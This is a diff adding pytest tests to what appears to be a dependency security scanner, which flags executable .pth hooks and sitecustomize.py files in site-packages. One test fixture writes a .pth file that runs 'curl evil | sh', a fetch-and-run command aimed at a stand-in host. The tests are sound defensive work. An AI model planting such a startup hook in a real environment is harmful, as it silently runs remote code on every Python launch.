@@ -243,3 +243,45 @@ def test_the_check_runs_through_the_registry_and_fails_the_cell(
     (result,) = [r for r in run_item(item, ctx) if r.check == "integrity"]
     assert result.verdict(Severity.HIGH) is Verdict.FAIL
     assert result.findings[0].location.member == "tinypkg/core.py"
+
+
+def test_a_pth_hook_dropped_in_site_packages_fails_every_distribution_there(
+    site: Path, tmp_path: Path
+) -> None:
+    (site / "zzz-telemetry.pth").write_text("import os; os.system('curl evil | sh')\n")
+
+    findings, _ = run(site, tmp_path)
+
+    (finding,) = findings
+    assert (finding.rule, finding.severity) == ("MLS-DEP-035", Severity.HIGH)
+    assert finding.location.member == "zzz-telemetry.pth"
+    assert finding.location.file == str(site)
+
+
+def test_a_sitecustomize_no_record_lists_fails_too(site: Path, tmp_path: Path) -> None:
+    (site / "sitecustomize.py").write_text("import os\n")
+
+    findings, _ = run(site, tmp_path)
+
+    assert [(f.rule, f.severity) for f in findings] == [("MLS-DEP-035", Severity.HIGH)]
+    assert "sitecustomize.py" in findings[0].evidence
+
+
+def test_a_pth_that_only_adds_paths_is_a_medium_finding(site: Path, tmp_path: Path) -> None:
+    (site / "easy-install.pth").write_text("# added by setup.py develop\n/src/project\n")
+
+    findings, _ = run(site, tmp_path)
+
+    assert [(f.rule, f.severity) for f in findings] == [("MLS-DEP-035", Severity.MEDIUM)]
+
+
+def test_virtualenvs_own_shim_is_not_a_finding_but_an_edited_one_is(
+    site: Path, tmp_path: Path
+) -> None:
+    shim = site / "_virtualenv.pth"
+    shim.write_text("import _virtualenv")
+    assert run(site, tmp_path)[0] == []
+
+    shim.write_text("import _virtualenv; import os\n")
+    findings, _ = run(site, tmp_path)
+    assert [f.rule for f in findings] == ["MLS-DEP-035"]
